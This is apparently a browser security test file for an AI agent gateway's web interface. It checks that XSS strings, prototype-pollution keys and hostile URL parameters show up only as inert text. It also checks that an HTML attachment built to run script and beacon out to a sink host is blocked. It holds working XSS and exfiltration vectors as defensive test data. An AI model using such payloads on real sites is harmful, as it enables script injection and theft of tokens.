// What strangers write stays text, wherever it is shown; and nothing an address says makes the page speak with anybody else.
import { once } from "node:events";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { PAGE_HEADERS } from "../../gateway/src/server/http/page-headers.ts";
import { guardBrowser, inspect, type Guard } from "./support/guard.ts";
import {
  FAILED_CHAT,
  HOSTILE_CHAT,
  HOSTILE_JOB,
  openHostileWorld,
  type HostileWorld,
} from "./support/hostile-world.ts";
import { PAYLOADS } from "./support/payloads.ts";
import { openSink, type Sink } from "./support/sink.ts";
import { HAS_BROWSER, TOKEN, type Stage } from "./support/stage.ts";

let world: HostileWorld;
let stage: Stage;
beforeAll(async () => {
  if (!HAS_BROWSER) return;
  world = await openHostileWorld();
  ({ stage } = world);
});
afterAll(() => world?.[Symbol.asyncDispose]());

const go = (page: Page, route: string): Promise<void> =>
  page.evaluate((fragment) => void (location.hash = fragment), `#/${route}`);

describe.skipIf(!HAS_BROWSER)("S-30: what strangers wrote", () => {
  let page: Page;
  let guard: Guard;
  beforeAll(async () => {
    // So tall that lists which show only what is in view show everything.
    const browser = await stage.browser({ width: 1280, height: 6000 });
    guard = await guardBrowser(browser, stage.url);
    page = await stage.enter(browser, "#/overview");
  });

  /** The page shows it, as text, and nothing came of it. */
  async function expectText(...wanted: readonly string[]): Promise<void> {
    await expect
      .poll(
        async () => {
          const { text } = await inspect(page);
          return wanted.filter((one) => !text.includes(one));
        },
        { timeout: 10_000 },
      )
      .toEqual([]);
    expect((await inspect(page)).foreign).toEqual([]);
    expect(guard.alarms).toEqual([]);
    expect(stage.complaints).toEqual([]);
  }

  const IMG = "<img src=x onerror=__ran(1)>";
  const SCRIPT = "<script>__ran(1)</script>";

  test("is enough to be worth a test", () => {
    expect(PAYLOADS.length).toBeGreaterThan(60);
  });

  test.for([
    ["words, thoughts and tools", `chat/${HOSTILE_CHAT}`, [SCRIPT, IMG, "__proto__"]],
    ["an error of a model", `chat/${FAILED_CHAT}`, [`scripted: ${SCRIPT}`, IMG]],
    ["a chat that was renamed", "chat/agent:main:hostile-3", [IMG]],
    ["names of sessions", "sessions", [IMG, "<svg onload=__ran(1)>", "__proto__", "${__ran(1)}"]],
    ["a session's details", "sessions?details=agent:main:hostile-3", [IMG]],
    ["what was found", "sessions/search?q=onerror", [IMG]],
    ["what was deleted", "sessions/deleted", [SCRIPT]],
    ["what needs somebody", "overview", [SCRIPT, IMG]],
    ["people, channels and messages", "channels", [SCRIPT, IMG]],
    ["messages on their way", "channels?messages=delivered", [SCRIPT]],
    ["devices", "devices", [SCRIPT, "<body onload=__ran(1)>"]],
    ["people", "people", [SCRIPT, IMG]],
    ["commands to approve and rules", "approvals", [SCRIPT, IMG]],
    ["rules of an agent", "approvals/hostile-1", [IMG]],
    ["the log", "logs", [IMG]],
    ["agents", "agents", [IMG, SCRIPT]],
    ["an agent", "agents/hostile-3", [IMG]],
    ["jobs", "cron", [IMG, SCRIPT]],
    ["jobs in a calendar", "cron?view=calendar", [IMG]],
    ["spending", "usage?by=session", ["<script>__ran"]],
    ["how an answer came about", "explain", [SCRIPT]],
    ["settings", "config/agents", [SCRIPT]],
    ["settings of models", "config/models/providers/scripted/models", [SCRIPT]],
    ["settings of channels", "config/channels/webhook", [SCRIPT]],
    ["settings as a file", "config?tab=raw", [SCRIPT]],
    ["the console", "console", []],
  ] as const)("is text among %s", async ([, route, wanted]) => {
    await go(page, route);
    await page.locator("main h1").first().waitFor();
    await expectText(...wanted);
  });

  test("is text among files, far up in a conversation", async () => {
    await go(page, `chat/${HOSTILE_CHAT}`);
    await page.getByRole("log").locator(".chat-tool").first().waitFor();
    await page.getByRole("log").evaluate((log) => log.scrollTo(0, 0));
    // The gateway keeps no name that could be something else on a disk.
    await expectText("___img src=x onerror=__ran(1)_.svg", "svg_.html");
  });

  test("is text in what a job does, and what came of it", async () => {
    const { jobs } = await (await stage.client()).call("cron.list", { query: HOSTILE_JOB });
    const [job] = jobs as Array<{ id: string }>;
    await go(page, `cron/${job?.id}`);
    await page.locator(".cron-run > summary").last().click();
    await expectText(SCRIPT, IMG, "Not delivered");
    await go(page, `cron/${job?.id}/edit`);
    await expect.poll(() => page.getByRole("textbox", { name: "Command" }).inputValue()).toContain(SCRIPT);
    await expectText();
  });

  test("is text in lists to choose from", async () => {
    await go(page, `chat/${HOSTILE_CHAT}`);
    await page.getByRole("button", { name: /model/i }).first().click();
    await expectText("<svg><script>__ran(1)</script></svg>");
    await page.keyboard.press("Escape");
    await page.keyboard.press("Control+k");
    await page.getByRole("combobox", { name: "Search or jump" }).fill("http-equiv");
    await page.getByRole("dialog").getByText("<meta http-equiv=refresh").first().waitFor();
    await expectText();
    await page.keyboard.press("Escape");
  });

  test("is text in what the gateway answers to a call, and in a notice", async () => {
    await go(page, "console");
    await page.locator("#console-method").fill(IMG);
    await page.getByRole("button", { name: "Call" }).click();
    await expectText(`unknown method: ${IMG}`);
  });

  test("is text in an address", async () => {
    for (const route of [
      encodeURIComponent(SCRIPT),
      `chat/${encodeURIComponent(IMG)}`,
      `config/${SCRIPT}/constructor`,
    ]) {
      await go(page, route);
      await page.locator("main :is(h1, .empty)").first().waitFor();
      await expectText();
    }
  });

  test("leads nowhere but to the web, to mail and to telephones", async () => {
    const key = "agent:main:links";
    stage.model.script.push(
      "[a](https://a.invalid) [b](http://b.invalid) [c](mailto:c@d.invalid) [d](tel:+123) [e](ftp://e.invalid) [f](//f.invalid) [g](/config) [h](chela:x) [i](#/config)",
    );
    await (await stage.client()).chat("Links", { sessionKey: key });
    await go(page, `chat/${key}`);
    const links = page.getByRole("log").locator(".prose a");
    await links.first().waitFor();
    const found = await links.evaluateAll((all) => all.map((link) => [link.textContent, link.getAttribute("href")]));
    expect(found).toEqual([
      ["a", "https://a.invalid"],
      ["b", "http://b.invalid"],
      ["c", "mailto:c@d.invalid"],
      ["d", "tel:+123"],
    ]);
    const safe = await links.evaluateAll((all) =>
      all.every((link) => link.getAttribute("target") === "_blank" && link.getAttribute("rel")?.includes("noopener")),
    );
    expect(safe).toBe(true);
    await expectText();
  });
});

describe.skipIf(!HAS_BROWSER)("S-30: the page itself", () => {
  test("cannot make text into code, whatever goes wrong in it", async () => {
    const answer = await fetch(stage.url);
    expect(answer.headers.get("content-security-policy")).toBe(PAGE_HEADERS["content-security-policy"]);
    const page = await stage.page();
    const attempts = await page.evaluate(async () => {
      // The browser's own tools may evaluate text; what comes after them may not.
      await new Promise((resolve) => setTimeout(resolve));
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      const element = document.createElement("div");
      const script = document.createElement("script");
      const all: Readonly<Record<string, () => unknown>> = {
        innerHTML: () => (element.innerHTML = "<b>x</b>"),
        outerHTML: () => (document.body.outerHTML = "<b>x</b>"),
        insertAdjacentHTML: () => element.insertAdjacentHTML("beforeend", "<b>x</b>"),
        write: () => document.write("<b>x</b>"),
        srcdoc: () => (document.createElement("iframe").srcdoc = "<b>x</b>"),
        parse: () => new DOMParser().parseFromString("<b>x</b>", "text/html"),
        script: () => (script.text = "1"),
        source: () => (script.src = "data:text/javascript,1"),
        // oxlint-disable-next-line no-eval -- what must not work is tried
        eval: () => globalThis.eval("1"),
        function: () => new Function("1"),
        policy: () => trustedTypes.createPolicy("other", {}),
        secondPolicy: () => trustedTypes.createPolicy("chela", {}),
      };
      return Object.entries(all).flatMap(([name, attempt]) => {
        try {
          attempt();
          return [name];
        } catch {
          return [];
        }
      });
    });
    expect(attempts).toEqual([]);
    stage.complaints.length = 0;
  });

  test("shows a document of an agent without running anything in it, and without a word to anybody", async () => {
    await using sink = await openSink();
    const key = "agent:main:viewer";
    const content = Buffer.from(escapeArtist(sink.host, stage.url)).toString("base64");
    const attachments = [{ mimeType: "text/html", fileName: "report.html", content }];
    await (await stage.client()).chat("A document", { sessionKey: key, attachments });
    const page = await stage.page({ at: `#/chat/${key}` });
    await page.getByRole("button", { name: /View report\.html/ }).click();
    const frame = page.frameLocator("iframe");
    await frame.getByRole("heading", { name: "Report" }).waitFor();
    expect(await frame.locator("h1").evaluate((heading) => getComputedStyle(heading).color)).toBe("rgb(1, 2, 3)");
    // Had it run, there would be a mark: at the end, or by one of the ways on the way there.
    await frame.locator("#press").click();
    expect(await frame.locator("#done").count()).toBe(0);
    expect(await page.evaluate(() => (window as { reached?: unknown }).reached)).toBeUndefined();
    expect(page.url()).toContain(stage.url);
    expect(page.context().pages()).toHaveLength(1);
    expect(sink.visits).toEqual([]);
    stage.complaints.length = 0;
  });
});

/** A document that tries to run, to load and to lead elsewhere in every way it can. */
function escapeArtist(sink: string, home: string): string {
  const leave = `new RTCPeerConnection({ iceServers: [{ urls: "stun:${sink}" }] }).createDataChannel("x"); parent.reached = true;
    document.body.insertAdjacentHTML("beforeend", "<p id=done>ran</p>"); fetch("http://${sink}/ran"); fetch("${home}health")`;
  const quoted = leave.replaceAll('"', "&quot;");
  return `<!doctype html><html><head><meta http-equiv="refresh" content="0;url=http://${sink}/refresh">
<base href="http://${sink}/"><link rel="preconnect" href="http://${sink}"><link rel="dns-prefetch" href="http://${sink}">
<link rel="prefetch" href="http://${sink}/p"><link rel="stylesheet" href="http://${sink}/s.css">
<style>@import "http://${sink}/i.css"; h1 { color: rgb(1, 2, 3); background: url(http://${sink}/b.png); }</style>
<script>${leave}</script><script src="http://${sink}/s.js"></script></head>
<body onload="${quoted}"><h1>Report</h1><img src="http://${sink}/i.png" onerror="${quoted}"><svg onload="${quoted}"></svg>
<iframe src="http://${sink}/f"></iframe><iframe srcdoc="<script>${quoted}</script>"></iframe>
<object data="http://${sink}/o"></object><embed src="http://${sink}/e"><video src="http://${sink}/v" autoplay></video>
<form action="http://${sink}/form"><input autofocus onfocus="${quoted}"></form>
<button id="press" onclick="${quoted}">Press</button></body></html>`;
}

describe.skipIf(!HAS_BROWSER)("S-01: an address", () => {
  const SECRET = "canary-secret-0123456789";
  const NAMES = ["gatewayUrl", "gateway", "url", "ws", "wsUrl", "host", "server", "endpoint", "baseUrl", "redirect"];
  const SECRETS = ["token", "password", "deviceToken", "code", "bootstrapToken", "auth", "secret", "apiKey"];
  let browser: BrowserContext;
  let page: Page;
  let sink: Sink;
  let guard: Guard;
  beforeAll(async () => {
    sink = await openSink();
    browser = await stage.browser();
    guard = await guardBrowser(browser, stage.url);
    page = await stage.enter(browser);
  });
  afterAll(() => sink?.[Symbol.asyncDispose]());

  test.for([
    ["?", ""],
    ["chat?", ""],
    ["#", ""],
    ["#/?", ""],
    ["#/chat?", ""],
    ["?session=agent:main:main&", `#token=${SECRET}`],
    ["index.html?", `#/overview`],
  ] as const)("chooses nobody to speak with (%s…%s), and keeps no secret", async ([before, behind]) => {
    const parts = [
      ...NAMES.flatMap((name) => [
        `${name}=ws://${sink.host}/${SECRET}`,
        `${name}=${encodeURIComponent(`http://${sink.host}`)}`,
      ]),
      ...SECRETS.map((name) => `${name}=${SECRET}`),
      "session=agent:main:main",
    ];
    const visit = await browser.newPage();
    await visit.goto(`${stage.url}${before}${parts.join("&")}${behind}`);
    await visit.locator(".frame").waitFor();
    await visit.getByText("Connected").first().waitFor();
    expect(visit.url()).not.toContain(SECRET);
    expect(visit.url()).not.toContain(sink.host);
    expect(sink.visits).toEqual([]);
    expect(guard.alarms).toEqual([]);
    await visit.close();
  });

  test("chooses nobody for a browser that is not known, either", async () => {
    const visit = await (await stage.browser()).newPage();
    const asked: string[] = [];
    visit.on("websocket", (socket) => asked.push(socket.url()));
    await visit.goto(
      `${stage.url}?gatewayUrl=ws://${sink.host}&token=${TOKEN}#token=${TOKEN}&gatewayUrl=ws://${sink.host}`,
    );
    await visit.getByRole("heading", { name: "Sign in" }).waitFor();
    expect(new Set(asked)).toEqual(new Set([stage.url.replace("http", "ws")]));
    expect(visit.url()).not.toContain(TOKEN);
    expect(sink.visits).toEqual([]);
  });

  test("with a code lets one browser in, once, and forgets the code", async () => {
    const entrance = await stage.entrance();
    const code = /#code=(.+)$/.exec(entrance)?.[1] ?? "";
    expect(code).not.toBe("");
    const [first, second] = [await stage.browser(), await stage.browser()];
    const inside = await first.newPage();
    await inside.goto(entrance);
    await inside.locator(".frame").waitFor();
    expect(inside.url()).not.toContain(code);
    const outside = await second.newPage();
    await outside.goto(entrance);
    await outside.getByRole("heading", { name: "Sign in" }).waitFor();
    await outside.getByRole("alert").getByText("used or is too old").waitFor();
    expect(outside.url()).not.toContain(code);
    await inside.goto("about:blank");
    await inside.goBack();
    await inside.locator(".frame").waitFor();
    expect(inside.url()).not.toContain(code);
  });

  test("is not asked by another page that opened this one, or would frame it", async () => {
    const words = JSON.stringify({ gatewayUrl: `ws://${sink.host}`, url: `ws://${sink.host}`, token: SECRET });
    const types = ["gateway", "connect", "config", "chela.viewer.show", "chela.viewer.ready", "auth", "openclaw"];
    const stranger = createServer((_request, response) => {
      response.setHeader("content-type", "text/html").end(`<!doctype html><iframe src="${stage.url}"></iframe><script>
        const opened = window.open("${stage.url}#/overview");
        const say = () => {
          for (const to of [opened, frames[0]]) for (const type of ${JSON.stringify(types)})
            for (const one of [{ type, ...${words} }, JSON.stringify({ type, ...${words} }), { type, html: "<script>__ran(1)<\\/script>" }])
              to?.postMessage(one, "*");
        };
        setInterval(say, 20);
        document.title = "speaking";
      </script>`);
    }).listen(0, "127.0.0.1");
    await once(stranger, "listening");
    const visit = await browser.newPage();
    const popup = browser.waitForEvent("page");
    await visit.goto(`http://localhost:${(stranger.address() as AddressInfo).port}/`);
    const opened = await popup;
    await opened.locator(".frame").waitFor();
    await opened.getByRole("heading", { name: "Overview" }).waitFor();
    expect(await opened.evaluate(() => window.opener)).toBeNull();
    expect(await visit.evaluate(() => frames[0]?.location.href).catch(() => "not ours")).toBe("not ours");
    expect(sink.visits).toEqual([]);
    expect(guard.alarms.filter((alarm) => !alarm.startsWith("asked http://localhost:"))).toEqual([]);
    await Promise.all([visit.close(), opened.close()]);
    stranger.closeAllConnections();
    stranger.close();
    stage.complaints.length = 0;
  });

  test("of a page that is open changes nothing when it is changed, and keeps no secret", async () => {
    await page.evaluate((host) => void (location.hash = `#gatewayUrl=ws://${host}&token=x`), sink.host);
    await expect.poll(() => page.url()).not.toMatch(/gatewayUrl|token/);
    await page.locator(".frame").waitFor();
    expect(sink.visits).toEqual([]);
    expect(stage.complaints).toEqual([]);
  });
});
